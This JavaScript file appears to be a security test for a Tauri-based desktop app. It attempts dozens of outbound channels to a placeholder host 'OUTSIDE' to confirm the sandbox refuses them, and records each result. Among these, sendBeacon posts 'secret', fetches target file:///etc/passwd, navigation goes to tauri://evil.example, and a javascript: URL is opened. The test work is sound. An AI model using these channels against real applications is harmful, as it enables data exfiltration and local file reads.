const done = arguments[0];
const there = "http://OUTSIDE/";
const told = (thing, name, way = () => document.body.append(thing)) => new Promise((resolve) => {
    thing.addEventListener?.("error", () => resolve("refused"));
    thing.addEventListener?.("load", () => resolve("loaded"));
    setTimeout(() => resolve("nothing"), 1500);
    way();
});
const element = (name, fields) => told(Object.assign(document.createElement(name), fields), name);
const thrown = async (work) => {
    try { const given = await work(); return `gave ${given}`; } catch (error) { return "refused"; }
};
const click = (fields) => {
    const link = Object.assign(document.createElement("a"), fields);
    document.body.append(link);
    link.click();
    return "clicked";
};
const ways = {
    fetch: () => thrown(() => fetch(there)),
    fetchOfX: () => thrown(() => fetch("https://api.x.com/2/users/me")),
    blindFetch: () => thrown(() => fetch(there, { mode: "no-cors" })),
    request: () => thrown(() => new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onerror = reject;
        request.onload = resolve;
        request.open("GET", there);
        request.send();
    })),
    image: () => element("img", { src: there + "image.png" }),
    script: () => element("script", { src: there + "script.js" }),
    module: () => thrown(() => import(there + "module.js")),
    style: () => element("link", { rel: "stylesheet", href: there + "style.css" }),
    prefetch: () => element("link", { rel: "prefetch", href: there + "prefetch" }),
    preconnect: () => element("link", { rel: "preconnect", href: there }),
    namePrefetch: () => element("link", { rel: "dns-prefetch", href: there }),
    webRtc: async () => String(window.RTCPeerConnection),
    preload: () => element("link", { rel: "preload", as: "image", href: there + "preload.png" }),
    manifest: () => element("link", { rel: "manifest", href: there + "manifest.json" }),
    icon: () => element("link", { rel: "icon", href: there + "icon.png" }),
    frame: () => element("iframe", { src: there + "frame" }),
    frameOfText: () => element("iframe", { srcdoc: `<img src="${there}">` }),
    object: () => element("object", { data: there + "object", type: "text/html" }),
    embed: () => element("embed", { src: there + "embed", type: "text/html" }),
    video: () => element("video", { src: there + "video.mp4", autoplay: true }),
    audio: () => element("audio", { src: there + "audio.mp3", autoplay: true }),
    track: () => element("track", { src: there + "track.vtt" }),
    colour: async () => {
        const place = document.createElement("p");
        place.style.backgroundImage = `url("${there}background.png")`;
        document.body.append(place);
        return "drawn";
    },
    font: () => thrown(() => new FontFace("attack", `url("${there}font.woff2")`).load()),
    socket: () => thrown(() => new Promise((resolve, reject) => {
        const socket = new WebSocket("ws://OUTSIDE/");
        socket.onerror = reject;
        socket.onopen = resolve;
    })),
    events: () => thrown(() => new Promise((resolve, reject) => {
        const source = new EventSource(there);
        source.onerror = reject;
        source.onmessage = resolve;
    })),
    beacon: () => thrown(() => Promise.resolve(navigator.sendBeacon?.(there, "secret"))),
    form: async () => {
        const form = Object.assign(document.createElement("form"), { action: there, method: "post" });
        document.body.append(form);
        form.submit();
        return "submitted";
    },
    opened: async () => String(window.open(there)),
    openedHere: async () => String(window.open(there, "_self")),
    openedAsScript: async () => String(window.open("javascript:window.attacked = 1", "_blank")),
    link: async () => click({ href: there }),
    linkToNewWindow: async () => click({ href: there, target: "_blank" }),
    download: async () => click({ href: there + "file", download: "file" }),
    downloadOfData: async () => click({ href: "data:text/plain,attack", download: "attack.txt" }),
    ping: async () => click({ href: "#", ping: there + "ping" }),
    refresh: async () => {
        const meta = Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0; url=${there}` });
        document.head.append(meta);
        return "set";
    },
    location: async () => { location.href = there; return "set"; },
    assign: async () => { location.assign("https://OUTSIDE/"); return "set"; },
    file: async () => { location.href = "file:///etc/passwd"; return "set"; },
    data: async () => { location.href = "data:text/html,<h1>attack</h1>"; return "set"; },
    anotherOfOurs: async () => { location.href = "tauri://evil.example/index.html"; return "set"; },
    media: async () => { location.href = "pipit-media://localhost/1"; return "set"; },
    fileFetch: () => thrown(() => fetch("file:///etc/passwd")),
    asset: () => thrown(() => fetch("asset://localhost/etc/passwd")),
    worker: () => thrown(() => new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob([`fetch("${there}").then(() => postMessage(1))`])));
        worker.onmessage = resolve;
        worker.onerror = reject;
    })),
    serviceWorker: () => thrown(() => navigator.serviceWorker.register(there + "worker.js")),
};
const entries = Object.entries(ways).map(async ([name, way]) => [name, await way()]);
Promise.all(entries).then((all) => done(Object.fromEntries(all)));
